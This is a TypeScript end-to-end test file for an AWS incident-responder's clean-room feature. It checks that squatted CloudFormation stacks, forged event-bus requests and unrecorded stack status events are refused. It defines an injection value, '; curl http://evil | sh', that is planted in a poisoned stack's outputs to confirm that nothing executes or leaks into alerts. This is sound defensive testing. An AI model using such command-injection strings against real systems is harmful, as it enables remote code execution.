/**
 * Attacks on the clean room, end to end in the emulator (modelled on cleanroom.test.ts): EventBridge
 * rules built from serverless.yml route the events to the cleanroom handler, alerts are read from
 * an SQS subscription of the alert topic.
 *
 * - A stack pre-created under the predictable name `incident-responder-cleanroom-<id>`, its
 *   outputs carrying `; curl http://evil | sh`, is not adopted: the responder creates its own
 *   clean room under a fresh name, records the squatting, and no output text reaches any alert.
 * - A `Clean Room Requested` event put directly on the bus, without a request recorded on the
 *   incident, creates nothing; the same request recorded the way `responder cleanroom create`
 *   records it is acted on, once.
 * - A CloudFormation status event for a stack id the incident did not record changes nothing;
 *   the same event for the recorded stack id is counted (the route works).
 */

import { randomBytes } from "node:crypto";
import {
  type CloudFormationClient,
  CreateStackCommand,
  DescribeStacksCommand,
  ListStacksCommand,
} from "@aws-sdk/client-cloudformation";
import { CreateSnapshotCommand, DescribeInstancesCommand, type EC2Client } from "@aws-sdk/client-ec2";
import { PutEventsCommand } from "@aws-sdk/client-eventbridge";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { requestCleanroom } from "../../cli/commands/cleanroom.ts";
import { drainAlerts, type ReceivedAlert } from "../../cli/drill/run.ts";
import type { DemoAccount } from "../../cli/local/demo.ts";
import type { Invocation } from "../../cli/local/runner.ts";
import type { LocalSession } from "../../cli/local/session.ts";
import { cfnClient, ec2Client, eventsClient, sqsClient } from "../../shared/aws/clients.ts";
import { EventBridgePublisher } from "../../shared/events/bus.ts";
import type { IncidentRecord, SnapshotRecord, StepRecord } from "../../shared/incident/model.ts";
import type { DynamoIncidentStore } from "../../shared/incident/store.ts";
import { CLEANROOM_STEP, type CleanroomRecord } from "../../shared/workflow/cleanroom.ts";
import { WAIT_MS, waitFor } from "../support/findings.ts";
import { startTestSession } from "../support/session.ts";

const EVIL = "; curl http://evil | sh";

let session: LocalSession;
let demo: DemoAccount;
let ec2: EC2Client;
let cfn: CloudFormationClient;
let store: DynamoIncidentStore;
let bus: EventBridgePublisher;
let alertQueueUrl: string;
const alerts: ReceivedAlert[] = [];
const invocations: Invocation[] = [];

function newIncidentId(): string {
  return `ir-${new Date().toISOString().slice(0, 10).replaceAll("-", "")}-${randomBytes(4).toString("hex")}`;
}

async function snapshotWebServer(incidentId: string): Promise<SnapshotRecord[]> {
  const instanceId = demo.instances.web.instanceId;
  const inst = (await ec2.send(new DescribeInstancesCommand({ InstanceIds: [instanceId] }))).Reservations?.[0]
    ?.Instances?.[0];
  const out: SnapshotRecord[] = [];
  expect(inst?.BlockDeviceMappings).toHaveLength(demo.instances.web.volumes);
  for (const b of inst?.BlockDeviceMappings ?? []) {
    const snap = await ec2.send(
      new CreateSnapshotCommand({
        VolumeId: b.Ebs?.VolumeId,
        TagSpecifications: [
          { ResourceType: "snapshot", Tags: [{ Key: "incident-responder:incident-id", Value: incidentId }] },
        ],
      }),
    );
    out.push({
      snapshotId: snap.SnapshotId ?? "",
      volumeId: b.Ebs?.VolumeId ?? "",
      deviceName: b.DeviceName ?? "",
      state: snap.State ?? "completed",
    });
  }
  return out;
}

/** A critical incident on the web server with its evidence sealed; `launch`: its plan has launch-cleanroom. */
async function openIncident(opts: {
  launch: boolean;
  extra?: Partial<IncidentRecord>;
}): Promise<IncidentRecord> {
  const incidentId = newIncidentId();
  const at = new Date().toISOString();
  const account = session.local.context.accountId;
  const instanceId = demo.instances.web.instanceId;
  const incident: IncidentRecord = {
    incidentId,
    status: "open",
    createdAt: at,
    updatedAt: at,
    account,
    region: session.aws.region,
    resourceKey: `${account}#${instanceId}-${incidentId}`,
    drill: true,
    dryRun: false,
    finding: {
      id: `attack-cleanroom-${incidentId}`,
      source: "guardduty",
      type: "Backdoor:EC2/C&CActivity.B!DNS",
      title: `${instanceId} is querying a domain name associated with a known Command & Control server`,
      severity: 8,
      time: at,
      account,
      region: session.aws.region,
      resources: [{ kind: "ec2-instance", id: instanceId }],
      drill: true,
      raw: {},
    },
    findings: [],
    impact: { score: 95, tier: "critical", reasons: [], tags: { Name: "payments-web-1" } },
    plan: {
      playbook: "guardduty-ec2-critical-high",
      actions: ["contain-instance", "capture-snapshots", ...(opts.launch ? ["launch-cleanroom"] : [])].map(
        (name) => ({ name, params: {}, requiresApproval: false }),
      ),
      notes: [],
    },
    steps: { manifest: { status: "ok", startedAt: at, endedAt: at, attempts: 1 } },
    timeline: [],
    actions: [],
    alerts: [],
    evidence: {
      snapshots: await snapshotWebServer(incidentId),
      manifestKey: `incidents/${incidentId}/manifest.json`,
    },
    ...opts.extra,
  };
  expect((await store.open(incident)).outcome).toBe("created");
  return incident;
}

/** A stack created directly (by "someone else"): one queue, and outputs with a command in them. */
async function createOtherStack(
  name: string,
  incidentId: string,
  outputs: Record<string, string>,
): Promise<string> {
  const template = {
    Resources: { Queue: { Type: "AWS::SQS::Queue" } },
    Outputs: Object.fromEntries(Object.entries(outputs).map(([k, v]) => [k, { Value: v }])),
  };
  const out = await cfn.send(
    new CreateStackCommand({
      StackName: name,
      TemplateBody: JSON.stringify(template),
      Tags: [
        { Key: "incident-responder:incident-id", Value: incidentId },
        { Key: "incident-responder:managed", Value: "true" },
        { Key: "incident-responder:expires-at", Value: "2000-01-01T00:00:00Z" },
      ],
    }),
  );
  expect(out.StackId).toMatch(/^arn:aws:cloudformation:/);
  return out.StackId ?? "";
}

const poisoned = (region: string) => ({
  WorkstationInstanceId: `i-0123456789abcdef0${EVIL}`,
  SessionManagerCommand: `aws ssm start-session --target i-0123456789abcdef0 --region ${region}${EVIL}`,
  NotesPrefix: `s3://evidence/notes/${EVIL}`,
});

async function waitForStep(incidentId: string, step: string) {
  return waitFor(
    async () => (await store.get(incidentId)).steps[step],
    (s) => s !== undefined && s.status !== "running",
    WAIT_MS,
    `step ${step} of ${incidentId} ended`,
  );
}

async function collectAlerts(incidentId: string): Promise<ReceivedAlert[]> {
  await session.runner.settled(WAIT_MS);
  alerts.push(...(await drainAlerts(sqsClient(session.aws), alertQueueUrl)));
  return alerts.filter((a) => a.incidentId === incidentId);
}

async function stacksOf(incidentId: string): Promise<string[]> {
  const out = await cfn.send(new ListStacksCommand({}));
  return (out.StackSummaries ?? [])
    .filter((s) => s.StackName?.includes(incidentId) && s.StackStatus !== "DELETE_COMPLETE")
    .map((s) => s.StackName ?? "");
}

type Outcome = { incidentId?: string; outcome?: string; detail?: string; action?: string };

/**
 * Waits until the cleanroom function has handled `count` events of this type about this
 * incident, then until the runner has nothing left to run; the results of all it handled (more
 * than `count` when more came).
 */
async function outcomesFor(incidentId: string, detailType: string, count: number): Promise<Outcome[]> {
  const found = async () =>
    invocations
      .filter((i) => i.functionName === "cleanroom")
      .filter((i) => (i.event as { "detail-type"?: string })["detail-type"] === detailType)
      .map((i) => i.result as Outcome)
      .filter((r) => r?.incidentId === incidentId);
  await waitFor(
    found,
    (f) => f.length >= count,
    WAIT_MS,
    `${count} ${detailType} events about ${incidentId} handled`,
  );
  await session.runner.settled(WAIT_MS);
  return found();
}

beforeAll(async () => {
  ({ session, demo, store, alertQueueUrl } = await startTestSession("attack-cleanroom-alerts", {
    onInvocation: (i) => invocations.push(i),
  }));
  const aws = session.aws;
  ec2 = ec2Client(aws);
  cfn = cfnClient(aws);
  bus = new EventBridgePublisher(eventsClient(aws), session.local.resources.eventBusName);
});

afterAll(async () => {
  await session?.stop();
});

describe("a squatted clean-room stack name", () => {
  let incident: IncidentRecord;
  let squatId: string;
  let launch: StepRecord | undefined;
  let record: CleanroomRecord;
  const predictable = () => `incident-responder-cleanroom-${incident.incidentId}`;

  beforeAll(async () => {
    incident = await openIncident({ launch: true });
    squatId = await createOtherStack(predictable(), incident.incidentId, poisoned(session.aws.region));
    await bus.emit("Evidence Preserved", { incidentId: incident.incidentId, account: incident.account });
    launch = await waitForStep(incident.incidentId, CLEANROOM_STEP);
    record = (await store.get(incident.incidentId)).cleanroom as unknown as CleanroomRecord;
  });

  it("is not adopted: the responder creates its own clean room under a fresh name", async () => {
    expect(launch, JSON.stringify(launch)).toMatchObject({ status: "ok" });
    expect(record.stackName).toMatch(new RegExp(`^${predictable()}-[0-9a-f]{12}$`));
    expect(record.stackId).not.toBe(squatId);
    const own = (await cfn.send(new DescribeStacksCommand({ StackName: record.stackId }))).Stacks?.[0];
    expect(own?.StackName).toBe(record.stackName);
    expect(record.connect).toBe(
      `aws ssm start-session --target ${record.outputs.WorkstationInstanceId} --region ${session.aws.region}`,
    );
    expect(record.outputs.WorkstationInstanceId).toMatch(/^i-[0-9a-f]{8}([0-9a-f]{9})?$/);
  });

  it("is recorded on the incident, and the squatter's stack is left in place", async () => {
    expect(record.squatted).toEqual([
      expect.objectContaining({ stackName: predictable(), stackId: squatId, status: "CREATE_COMPLETE" }),
    ]);
    const squat = (await cfn.send(new DescribeStacksCommand({ StackName: squatId }))).Stacks?.[0];
    expect(squat?.StackStatus).toBe("CREATE_COMPLETE");
  });

  it("is alerted as a possible attack, and no output text reaches any alert", async () => {
    const mine = await collectAlerts(incident.incidentId);

    expect(mine.map((a) => a.stage).sort()).toEqual(["cleanroom-ready", "failed"]);
    const attack = mine.find((a) => a.stage === "failed");
    expect(String(attack?.body.summary)).toMatch(/POSSIBLE ATTACK/);
    expect(JSON.stringify(attack?.body.failed)).toContain(squatId);
    const ready = mine.find((a) => a.stage === "cleanroom-ready");
    expect(ready?.body.facts).toMatchObject({ Connect: record.connect });
    for (const a of alerts) {
      expect(JSON.stringify(a)).not.toContain("curl");
      expect(JSON.stringify(a)).not.toContain("evil");
    }
    expect(JSON.stringify(await store.get(incident.incidentId))).not.toContain("evil");
  });

  it("is left alone by the expiry sweep although its expires-at tag has passed", async () => {
    const inv = await session.runner.runScheduled("cleanroom");

    expect(inv.error).toBeUndefined();
    expect(inv.result).toContainEqual(
      expect.objectContaining({ action: "sweep", outcome: "left-alone", incidentId: incident.incidentId }),
    );
    const squat = (await cfn.send(new DescribeStacksCommand({ StackName: squatId }))).Stacks?.[0];
    expect(squat?.StackStatus).toBe("CREATE_COMPLETE");
  });
});

describe("clean-room requests put straight on the bus", () => {
  let incident: IncidentRecord;

  beforeAll(async () => {
    incident = await openIncident({ launch: false });
    await bus.emit("Clean Room Requested", {
      incidentId: incident.incidentId,
      requestedBy: "arn:aws:iam::123456789012:user/attacker",
    });
    await bus.emit("Clean Room Requested", {
      incidentId: incident.incidentId,
      requestId: `crq-${randomBytes(16).toString("hex")}`,
    });
  });

  it("create nothing, and are refused loudly", async () => {
    const outcomes = await outcomesFor(incident.incidentId, "Clean Room Requested", 2);

    expect(outcomes.map((o) => o.outcome)).toEqual(["refused", "refused"]);
    expect(await stacksOf(incident.incidentId)).toEqual([]);
    const after = await store.get(incident.incidentId);
    expect(after.steps[CLEANROOM_STEP]).toBeUndefined();
    expect(after.cleanroom).toBeUndefined();
    const refused = (await collectAlerts(incident.incidentId)).filter((a) => a.stage === "rejected");
    expect(refused).toHaveLength(2);
  });

  it("are acted on, once, when recorded on the incident as `responder cleanroom create` records them", async () => {
    const out = await requestCleanroom({ store, bus }, "create", incident.incidentId, {
      by: "attack-cleanroom-test",
      timeoutMs: WAIT_MS,
    });
    expect(out.step, JSON.stringify(out)).toMatchObject({ status: "ok" });
    expect(out.cleanroom?.requestedBy).toBe("attack-cleanroom-test");

    await bus.emit("Clean Room Requested", { incidentId: incident.incidentId, requestId: out.requestId });
    const outcomes = await outcomesFor(incident.incidentId, "Clean Room Requested", 4);

    expect(outcomes).toHaveLength(4);
    expect(outcomes.at(-1)).toMatchObject({ action: "request", outcome: "already" });
    expect(await stacksOf(incident.incidentId)).toEqual([
      `incident-responder-cleanroom-${incident.incidentId}`,
    ]);
    const request = (await store.get(incident.incidentId)).cleanroomRequests?.[out.requestId ?? ""];
    expect(request).toMatchObject({
      by: "attack-cleanroom-test",
      action: "create",
      consumedAt: expect.any(String),
    });
  });
});

describe("a CloudFormation status event for a stack the incident did not record", () => {
  let incident: IncidentRecord;
  let recordedId: string;
  let squatId: string;
  let before: IncidentRecord;

  /** Puts a `Stack Status Change` event on the default bus, as CloudFormation would. */
  async function statusEvent(stackId: string, status: string): Promise<void> {
    const out = await eventsClient(session.aws).send(
      new PutEventsCommand({
        Entries: [
          {
            Source: "aws.cloudformation",
            DetailType: "CloudFormation Stack Status Change",
            Resources: [stackId],
            Detail: JSON.stringify({
              "stack-id": stackId,
              "status-details": { status, "detailed-status": "" },
            }),
          },
        ],
      }),
    );
    expect(out.FailedEntryCount ?? 0).toBe(0);
  }

  beforeAll(async () => {
    // An incident whose launch is waiting for CloudFormation: its record names the stack it created.
    const incidentId = newIncidentId();
    const fresh = `incident-responder-cleanroom-${incidentId}-${randomBytes(6).toString("hex")}`;
    recordedId = await createOtherStack(fresh, incidentId, {});
    squatId = await createOtherStack(
      `incident-responder-cleanroom-${incidentId}`,
      incidentId,
      poisoned("us-east-1"),
    );
    const at = new Date().toISOString();
    const waiting: CleanroomRecord = {
      stackName: fresh,
      stackId: recordedId,
      status: "CREATE_IN_PROGRESS",
      outputs: {},
      expiresAt: new Date(Date.now() + 3_600_000).toISOString(),
    };
    incident = await openIncident({
      launch: true,
      extra: {
        incidentId,
        steps: {
          manifest: { status: "ok", startedAt: at, endedAt: at, attempts: 1 },
          [CLEANROOM_STEP]: { status: "waiting", startedAt: at, endedAt: at, attempts: 1 },
        },
        cleanroom: waiting,
      },
    });
    before = await store.get(incident.incidentId);
  });

  it("changes nothing", async () => {
    await statusEvent(squatId, "CREATE_COMPLETE");
    await statusEvent(squatId, "DELETE_COMPLETE");
    const outcomes = await outcomesFor(incident.incidentId, "CloudFormation Stack Status Change", 2);

    expect(outcomes).toHaveLength(2);
    for (const o of outcomes)
      expect(o).toMatchObject({ outcome: "ignored", detail: expect.stringMatching(/not the stack id/) });
    const after = await store.get(incident.incidentId);
    expect(after.steps[CLEANROOM_STEP]).toEqual(before.steps[CLEANROOM_STEP]);
    expect(after.cleanroom).toEqual(before.cleanroom);
    expect(JSON.stringify(after)).not.toContain("evil");
  });

  it("moves the clean room when it names the recorded stack id (the route works)", async () => {
    await statusEvent(recordedId, "CREATE_COMPLETE");
    const outcomes = await outcomesFor(incident.incidentId, "CloudFormation Stack Status Change", 3);

    expect(outcomes).toHaveLength(3);
    expect(outcomes.at(-1)).toMatchObject({ action: "launch", outcome: "ready" });
    const after = await store.get(incident.incidentId);
    expect(after.steps[CLEANROOM_STEP]?.status).toBe("ok");
    expect((after.cleanroom as unknown as CleanroomRecord).stackId).toBe(recordedId);
  });
});
